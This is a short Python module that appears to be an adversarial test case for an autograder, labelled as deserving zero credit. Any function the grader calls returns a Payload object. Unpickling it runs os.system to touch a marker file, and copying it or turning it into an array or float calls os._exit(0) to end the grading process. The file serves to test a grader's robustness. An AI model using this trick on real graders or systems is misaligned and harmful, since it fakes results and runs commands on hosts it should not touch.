"""Tries: return objects that run a command when they are unpickled, copied or turned into an array.

Deserves: 0
Base: nothing
Control: none, because an in-process grader has nothing to unpickle
"""

import os


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/autograder-attack-pickle",)

    def __reduce_ex__(self, protocol):
        return self.__reduce__()

    def __deepcopy__(self, memo):
        os._exit(0)

    __copy__ = __array__ = __float__ = __deepcopy__


def __getattr__(name):
    if name.startswith("__"):
        raise AttributeError(name)
    return lambda *args, **kwargs: Payload()
